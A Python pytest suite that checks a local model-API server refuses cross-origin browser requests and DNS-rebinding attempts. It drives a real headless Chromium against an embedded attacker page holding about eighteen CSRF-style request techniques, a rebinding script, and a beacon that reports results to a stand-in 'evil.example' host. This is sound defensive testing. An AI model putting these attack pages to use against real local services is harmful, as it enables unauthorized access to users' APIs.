"""A web page in the user's browser cannot drive the API (S13): a real Chromium, cross-origin and under a foreign name."""
import http.server
import json
import os
import shutil
import socket
import subprocess
import threading

import pytest

from server import wait_until

# What a page can try. Each attempt's name, then whether the page could read an answer ("read: ...") or not.
ATTACK = """<!doctype html><title>attacker</title><body><script>
const to = "%(target)s", body = JSON.stringify({model: "canned", messages: [{role: "user", content: "from the page"}]});
const results = {};
const soon = (promise) => Promise.race([promise, new Promise((_, no) => setTimeout(() => no(Error("no answer")), 4000))]);
async function attempt(name, what) {
  try { results[name] = "read: " + await soon(what()); } catch (error) { results[name] = "refused: " + error.message; }
}
const post = (type, more = {}) => fetch(to + "/v1/chat/completions", {method: "POST", body, headers: type ? {"content-type": type} : {}, ...more});
const text = async (response) => { if (response.type === "opaque") throw Error("opaque"); return response.status + " " + await response.text(); };
function frame(make) { return new Promise((done, failed) => {
  const f = document.createElement("iframe"); f.name = "f" + Math.random(); document.body.append(f); make(f);
  setTimeout(() => { try { done(f.contentDocument.body.innerText); } catch (error) { failed(error); } }, 1500); }); }
function form(enctype, name, value) { return frame((f) => {
  const made = document.createElement("form"); made.method = "post"; made.enctype = enctype; made.target = f.name;
  made.action = to + "/v1/chat/completions"; const field = document.createElement("input"); field.name = name; field.value = value;
  made.append(field); document.body.append(made); made.submit(); }); }
function element(tag, attribute) { return new Promise((done, failed) => {
  const made = document.createElement(tag); made[attribute] = to + "/v1/models"; made.onload = () => done("loaded"); made.onerror = () => failed(Error("error"));
  document.body.append(made); }); }
(async () => {
  await attempt("get", async () => text(await fetch(to + "/v1/models")));
  await attempt("get no-cors", async () => text(await fetch(to + "/v1/models", {mode: "no-cors"})));
  await attempt("metrics", async () => text(await fetch(to + "/metrics")));
  await attempt("post json", async () => text(await post("application/json")));
  await attempt("post text", async () => text(await post("text/plain")));
  await attempt("post text no-cors", async () => text(await post("text/plain", {mode: "no-cors"})));
  await attempt("post without type no-cors", async () => text(await post(null, {mode: "no-cors", body: new Blob([body])})));
  await attempt("post with credentials", async () => text(await post("text/plain", {credentials: "include"})));
  await attempt("put", async () => text(await fetch(to + "/v1/models", {method: "PUT", body})));
  await attempt("beacon", async () => { navigator.sendBeacon(to + "/v1/chat/completions", new Blob([body], {type: "text/plain"})); throw Error("sent blindly"); });
  await attempt("form text", () => form("text/plain", body.slice(0, -1) + ',"x":"', '"}'));
  await attempt("form urlencoded", () => form("application/x-www-form-urlencoded", "model", "canned"));
  await attempt("form multipart", () => form("multipart/form-data", "model", "canned"));
  await attempt("frame", () => frame((f) => { f.src = to + "/v1/models"; }));
  await attempt("image", () => element("img", "src"));
  await attempt("script", () => element("script", "src"));
  await attempt("event source", () => new Promise((done, failed) => { const s = new EventSource(to + "/v1/models"); s.onmessage = (m) => done(m.data); s.onerror = () => { s.close(); failed(Error("error")); }; }));
  await attempt("web socket", () => new Promise((done, failed) => { const s = new WebSocket(to.replace("http", "ws") + "/v1/chat/completions"); s.onopen = () => done("open"); s.onerror = () => failed(Error("error")); }));
  navigator.sendBeacon("%(report)s", JSON.stringify(results));
})();
</script>"""


class Attacker:
    """The page's own server. `address`: where it listens; `port` may be one that another address uses too."""

    def __init__(self, address="127.0.0.1", port=0):
        self.pages, self.reports, self.fetched = {}, [], []
        attacker = self

        class Handler(http.server.BaseHTTPRequestHandler):
            def log_message(self, *_):
                pass

            def do_GET(self):
                page = attacker.pages.get(self.path)
                attacker.fetched.append(self.path)
                self.send_response(200 if page else 404)
                self.send_header("Content-Type", "text/html")
                self.send_header("X-Attacker", "here")
                self.send_header("Connection", "close")
                self.end_headers()
                self.wfile.write((page or "").encode())

            def do_POST(self):
                attacker.reports.append(json.loads(self.rfile.read(int(self.headers["Content-Length"]))))
                self.send_response(204)
                self.end_headers()

            def do_OPTIONS(self):
                self.send_response(204)
                self.send_header("Access-Control-Allow-Origin", "*")
                self.send_header("Access-Control-Allow-Headers", "*")
                self.end_headers()

        class Server(http.server.ThreadingHTTPServer):
            address_family = socket.AF_INET6 if ":" in address else socket.AF_INET

        self.server = Server((address, port), Handler)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, kwargs={"poll_interval": 0.05}, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


class Browser:
    def __init__(self, folder, url, hosts=None):
        binary = shutil.which("chromium") or shutil.which("chromium-browser") or shutil.which("google-chrome")
        if not binary:
            pytest.skip("no Chromium on this machine (Debian's package chromium)")
        words = [binary, "--headless=new", "--disable-gpu", "--no-first-run", "--disable-extensions", "--no-proxy-server",
                 "--disable-background-networking", "--disable-dev-shm-usage", f"--user-data-dir={folder}", url]
        if os.geteuid() == 0:
            words.insert(1, "--no-sandbox")
        if hosts:  # names of its own, in a mount namespace of its own
            names = folder.parent / "hosts"
            names.write_text("127.0.0.1 localhost\n" + "".join(f"{address} {name}\n" for address, name in hosts))
            words = ["unshare", "-m", "sh", "-c", f'mount --bind {names} /etc/hosts && exec "$@"', "sh", *words]
        self.said = open(folder.parent / "browser.log", "wb")
        self.process = subprocess.Popen(words, stdin=subprocess.DEVNULL, stdout=self.said, stderr=self.said, start_new_session=True)

    def close(self):
        if self.process.poll() is None:
            os.killpg(self.process.pid, 15)
            try:
                self.process.wait(20)
            except subprocess.TimeoutExpired:
                os.killpg(self.process.pid, 9)
                self.process.wait(20)
        self.said.close()


@pytest.fixture
def browse(tmp_path):
    made = []

    def start(url, hosts=None):
        made.append(Browser(tmp_path / f"profile-{len(made)}", url, hosts))
        return made[-1]

    yield start
    for browser in made:
        browser.close()


def assert_nothing_was_driven(server, upstream, results):
    assert len(results) == 18, results
    assert not [name for name, result in results.items() if result.startswith("read: ")], results
    assert "canned" not in json.dumps([r for r in results.values() if r.startswith("read")]), results
    assert upstream.requests == []
    assert not [e for e in server.entries() if e["type"] == "intent"]


@pytest.mark.parametrize("origin", ["http://127.0.0.1", "http://localhost", "http://evil.example"])
def test_S13_no_page_of_another_origin_reaches_a_model(own, upstream, browse, origin):
    """From another host, and from the same host on another port ("same-site" to a browser)."""
    if origin.endswith("example") and os.geteuid() != 0:
        pytest.skip("names of a namespace of its own take root")
    with own.configure(upstream.toml()) as server:
        attacker = Attacker()
        attacker.pages["/"] = ATTACK % {"target": server.url, "report": f"{origin}:{attacker.port}/report"}
        browse(f"{origin}:{attacker.port}/", [("127.0.0.1", "evil.example")] if origin.endswith("example") else None)
        [results] = wait_until(lambda: list(attacker.reports), "the page's report", 90)
        attacker.close()
        assert not [name for name, result in results.items() if result.startswith("read: ")], results
        assert_nothing_was_driven(server, upstream, results)
        server.stop()
        server.start()
        refused = [e for e in server.entries() if e["type"] == "refusal" and e["cause"] == "not_allowed"]
        assert sum(e["count"] for e in refused) >= 10  # they arrived, and were turned away


def test_S13_a_name_that_leads_here_but_is_not_ours_is_misdirected(own, upstream, browse):
    """What a rebound name looks like from here: the browser asks us under the attacker's name."""
    if os.geteuid() != 0:
        pytest.skip("names of a namespace of its own take root")
    with own.configure(upstream.toml()) as server:
        attacker = Attacker()
        attacker.pages["/"] = ATTACK % {"target": f"http://rebind.example:{server.port}",
                                        "report": f"http://rebind.example:{attacker.port}/report"}
        browse(f"http://rebind.example:{attacker.port}/", [("127.0.0.1", "rebind.example")])
        [results] = wait_until(lambda: list(attacker.reports), "the page's report", 90)
        attacker.close()
        assert not [name for name, result in results.items() if result.startswith("read: ")], results
        assert_nothing_was_driven(server, upstream, results)
        server.stop()
        server.start()
        assert sum(e["count"] for e in server.entries() if e["type"] == "refusal" and e["status"] == 421) >= 10


# Served under a name with two addresses, of which browsers try that of IPv6 first: once the page's own server has gone, they go on to us.
REBIND = """<!doctype html><title>rebinding</title><body><script>window.ready = (async () => {
  for (;;) {
    try { const r = await fetch("/where", {cache: "no-store"}); if (r.headers.get("x-attacker") === null) return; } catch (error) {}
    await new Promise((done) => setTimeout(done, 200));
  }
})();</script>"""


def test_S13_a_name_whose_address_changes_under_a_loaded_page_reaches_no_model(own, upstream, browse):
    """DNS rebinding with a real browser: to it the page and we are one origin, so it may read what we say; that is a 421."""
    if os.geteuid() != 0:
        pytest.skip("names of a namespace of its own take root")
    with own.configure(upstream.toml()) as server:
        home, attacker = Attacker(), Attacker("::1", server.port)
        origin = f"http://rebind.example:{server.port}"
        attack = ATTACK % {"target": origin, "report": f"http://127.0.0.1:{home.port}/report"}
        attacker.pages["/"] = REBIND + attack.partition("<body>")[2].replace("(async () => {\n", "(async () => { await window.ready;\n", 1)
        browse(f"{origin}/", [("::1", "rebind.example"), ("127.0.0.1", "rebind.example")])
        wait_until(lambda: "/where" in attacker.fetched, "the page runs", 90)
        attacker.close()
        [results] = wait_until(lambda: list(home.reports), "the page's report", 90)
        home.close()
        read = {name: result for name, result in results.items() if result.startswith("read: ")}
        assert len(results) == 18 and len(read) >= 5, results  # it did reach us, as its own origin
        assert all("not known by that Host name" in result for result in read.values()), read
        assert "canned" not in json.dumps(results) and upstream.requests == []
        assert not [e for e in server.entries() if e["type"] == "intent"]
        server.stop()
        server.start()
        assert sum(e["count"] for e in server.entries() if e["type"] == "refusal" and e["status"] == 421) >= 10
